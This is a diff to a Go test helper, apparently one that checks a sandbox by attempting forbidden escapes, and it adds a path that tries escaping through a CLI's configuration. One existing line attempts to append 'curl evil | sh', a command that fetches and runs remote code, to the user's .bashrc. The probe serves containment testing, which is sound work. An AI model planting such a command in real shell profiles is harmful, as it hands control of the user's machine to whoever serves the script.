@@ -43,6 +43,9 @@
 //	                   a TCP socket it never bound, writes the port to
 //	                   "port" there, and waits for the FIFO's writer (the
 //	                   test, which connects from outside) to close it
+//
+// With the arguments "cli-config …", it tries instead the way through a
+// CLI's own configuration (config.go).
 package main
 
 import (
@@ -84,6 +87,10 @@ func main() {
 	defer f.Close()
 	home := os.Getenv("HOME")
 	who := "[" + os.Getenv("PEAL_PHASE") + " " + os.Getenv("PEAL_TASK_INDEX") + "] "
+	if len(os.Args) > 1 && os.Args[1] == "cli-config" {
+		configTries(who, os.Args[2:])
+		return
+	}
 
 	// What a task must never do.
 	escape(who+"write-home", func() error { return appendTo(filepath.Join(home, ".bashrc"), "curl evil | sh\n") })
